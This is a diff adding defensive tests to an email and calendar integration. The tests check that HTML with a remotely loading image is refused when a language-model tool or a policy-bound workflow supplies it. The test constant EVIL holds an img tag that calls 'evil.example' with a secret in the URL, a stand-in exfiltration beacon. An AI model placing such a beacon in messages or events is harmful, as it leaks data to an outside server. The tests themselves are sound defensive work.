@@ -94,3 +94,105 @@ it.each(['', 'Hello **Ann**,\\nsee you', 'Tom &amp; <b>Ann</b> there'])(
 		expect(await runForOne('email.sendEmail', { to, message })).toMatchObject({ sent: true });
 	},
 );
+
+describe('HTML that loads something by itself', () => {
+	const EVIL = '<p>Hello<img src="https://evil.example/?c=SECRET"></p>';
+	const at = (dateTime: string) => ({ dateTime, timeZone: 'UTC' });
+	const event = () =>
+		own()
+			.calendar.seed({
+				subject: 'Talk',
+				start: at('2031-03-03T09:00:00'),
+				end: at('2031-03-03T10:00:00'),
+			})
+			.idOf('immutable');
+	const on = { status: 'alwaysEnabled', message: 'Away' };
+	/** Every field whose text others read, with its label. */
+	const FIELDS: Array<[string, string, string, () => Promise<INodeParameters>]> = [
+		...STEPS.map(([step, field, given]): (typeof FIELDS)[number] => [
+			step,
+			field,
+			field === 'body' ? 'Description' : 'Message',
+			given,
+		]),
+		[
+			'email.scheduleEmail',
+			'message',
+			'Message',
+			async () => ({ to, sendAt: '2031-03-03T10:00Z' }),
+		],
+		['calendar.updateEvent', 'body', 'Description', async () => ({ eventId: event() })],
+		['calendar.cancelEvent', 'comment', 'Comment', async () => ({ eventId: event() })],
+		[
+			'calendar.respondToEvent',
+			'comment',
+			'Comment',
+			async () => ({ eventId: event(), response: 'accept' }),
+		],
+		['advanced.setAutomaticReplies', 'message', 'Message', async () => on],
+		[
+			'advanced.setAutomaticReplies',
+			'externalMessage',
+			'Message to Those Outside',
+			async () => ({ ...on, externalAudience: 'all' }),
+		],
+	];
+	const policy = { credentialData: { maximumEmailsPerHour: 9 } };
+
+	it.each(
+		FIELDS.flatMap((one) => [
+			{ one, who: 'a language model', run: tool },
+			{ one, who: 'a workflow under a policy', run: policy },
+		]),
+	)('is not taken from $who ($one.0 $one.1)', async ({ one, run }) => {
+		const [step, field, label, given] = one;
+		const parameters = await given();
+		provider().requests.clear();
+		const failure = await failureOf(runForOne(step, { ...parameters, [field]: EVIL }, run));
+		expect(failure).toMatchObject({
+			message: expect.stringContaining(
+				`${label}: loads something from another server by itself: img`,
+			),
+			description: 'Attach the picture, or leave a link.',
+		});
+		expect(asked().filter((request) => !request.startsWith('GET '))).toEqual([]);
+	});
+
+	it('is sent as it is by a workflow that nothing holds', async () => {
+		expect(await runForOne('email.sendEmail', { to, message: EVIL })).toMatchObject({ sent: true });
+	});
+
+	it.each([
+		['auto', '<p><img src="cid:logo"><a href="https://contoso.com">here</a></p>'],
+		['text', EVIL],
+		['auto', `Look: ${EVIL} is no text of ours`],
+	])('is not what %s %j is', async (messageFormat, message) => {
+		const given = { to, message, messageFormat };
+		expect(await runForOne('email.sendEmail', given, policy)).toMatchObject({ sent: true });
+	});
+
+	it('may stand in the mail that is answered', async () => {
+		const body = { contentType: 'html' as const, content: EVIL };
+		const { immutableId } = own().deliver({ subject: 'News', from: to, body });
+		for (const step of ['email.replyToEmail', 'email.forwardEmail']) {
+			const given = { messageId: immutableId, to, message: '<p>Thanks</p>', saveAsDraft: true };
+			const { id } = await runForOne(step, given, tool);
+			expect(own().messageOf(String(id))?.body?.content).toContain('evil.example');
+			const more = { messageId: String(id), message: '<p>Thank you</p>' };
+			await runForOne('email.updateDraft', more, { ...tool, ...policy });
+			expect(own().messageOf(String(id))?.body?.content).toContain('evil.example');
+		}
+	});
+
+	it.each([
+		['POST', '/me/messages'],
+		['POST', '/me/events'],
+	])('is not written by an API call under a policy (%s %s)', async (method, endpoint) => {
+		const body = JSON.stringify({ body: { contentType: 'html', content: EVIL } });
+		const failure = await failureOf(
+			runForOne('advanced.apiCall', { method, endpoint, body }, policy),
+		);
+		expect(failure.message).toContain('API calls may only read');
+		expect(asked()).toEqual([]);
+	});
+});
